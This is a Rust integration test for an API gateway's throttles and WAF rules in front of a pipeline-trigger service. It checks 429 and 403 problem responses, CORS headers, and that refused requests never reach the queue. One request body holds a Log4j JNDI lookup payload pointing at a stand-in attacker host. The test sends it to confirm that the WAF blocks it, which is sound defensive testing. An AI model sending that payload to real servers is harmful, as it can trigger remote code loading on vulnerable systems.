//! The edge as deployed, on the local stack: API Gateway's route throttle
//! and the WAF's rules answer before the ingress, in the product's voice,
//! with the CORS headers an allowed origin needs, and charge nothing.

use crate::harness::*;
use local_stack::edge::{Limits, Throttle, Waf};

fn header<'a>(response: &'a Response, name: &str) -> Option<&'a str> {
    response.headers.get(name).and_then(|v| v.to_str().ok())
}

/// A throttle of 3 `POST /trigger` (refilling one a minute) and a WAF rule
/// of 2 per address: a busy route, an address over its rule and a Log4j
/// lookup each get their answer; none costs a slot or a message.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn throttles_and_the_waf_answer_in_the_products_voice_and_charge_nothing() {
    let limits = Limits {
        throttles: Some(vec![
            (
                "*/*".into(),
                Throttle {
                    rate: 50.0,
                    burst: 100.0,
                },
            ),
            (
                "trigger/POST".into(),
                Throttle {
                    rate: 1.0 / 60.0,
                    burst: 3.0,
                },
            ),
        ]),
        waf: Some(Waf {
            window: Duration::from_secs(300),
            rate_limit: 1000,
            trigger_limit: 2,
        }),
    };
    let origin = "https://docs.example.com";
    let harness = Harness::start_with_edge(
        &unique("edge"),
        &[("CORS_ALLOWED_ORIGINS", origin)],
        None,
        Duration::from_secs(1),
        Some("prod"),
        limits,
    )
    .await;
    let first = client_from(Ipv4Addr::new(127, 0, 0, 40));
    let second = client_from(Ipv4Addr::new(127, 0, 0, 41));
    let third = client_from(Ipv4Addr::new(127, 0, 0, 42));
    let trigger = harness.url("/prod/trigger");
    // Two from the first address: accepted. A third: the WAF's rule.
    for _ in 0..2 {
        assert_eq!(send(&first, "POST", &trigger, "").await.status, 202);
    }
    let limited = send(&first, "POST", &trigger, "").await;
    assert_eq!(limited.status, 429, "{:?}", limited.body);
    assert_eq!(
        limited.body["type"],
        "urn:pipeline-trigger:problem:rate-limited"
    );
    assert_eq!(limited.body["retry_after_seconds"], 300);
    assert_eq!(header(&limited, "retry-after"), Some("300"));
    assert_eq!(
        header(&limited, "access-control-allow-origin"),
        Some(origin)
    );
    assert_eq!(
        header(&limited, "access-control-expose-headers"),
        Some("Retry-After")
    );
    // The route's third token goes to another address; then the route is
    // busy for everyone: the throttle, not anyone's quota.
    assert_eq!(send(&second, "POST", &trigger, "").await.status, 202);
    let throttled = send(&third, "POST", &trigger, "").await;
    assert_eq!(throttled.status, 429, "{:?}", throttled.body);
    assert_eq!(
        throttled.body["type"],
        "urn:pipeline-trigger:problem:throttled"
    );
    assert_eq!(throttled.body["scope"], "service");
    assert_eq!(header(&throttled, "retry-after"), Some("10"));
    assert_eq!(
        header(&throttled, "content-type"),
        Some("application/problem+json")
    );
    // Other routes keep their own throttle.
    let catalog = send(&third, "GET", &harness.url("/prod/pipelines"), "").await;
    assert_eq!(catalog.status, 200);
    // A Log4j lookup in a body: the WAF's known-bad-inputs rule.
    let forbidden = send(
        &third,
        "POST",
        &trigger,
        r#"{"pipeline": "${jndi:ldap://attacker.example/a}"}"#,
    )
    .await;
    assert_eq!(forbidden.status, 403);
    assert_eq!(
        forbidden.body["type"],
        "urn:pipeline-trigger:problem:forbidden"
    );
    // None of it reached the ingress: only the three accepted triggers
    // were sent to the queue, and each refusal is the gateway's own.
    assert_eq!(harness.stack.calls.ingress.count("SQS"), 3);
    let printed = harness.printed();
    for said in [
        "POST /prod/trigger -> 429 Service Busy (the gateway's own answer)",
        "POST /prod/trigger -> 429 Too Many Requests From This Address (the gateway's own answer)",
        "POST /prod/trigger -> 403 Refused by the Firewall (the gateway's own answer)",
    ] {
        assert!(printed.contains(said), "{said}\n{printed}");
    }
    harness.stack.stop().await;
}
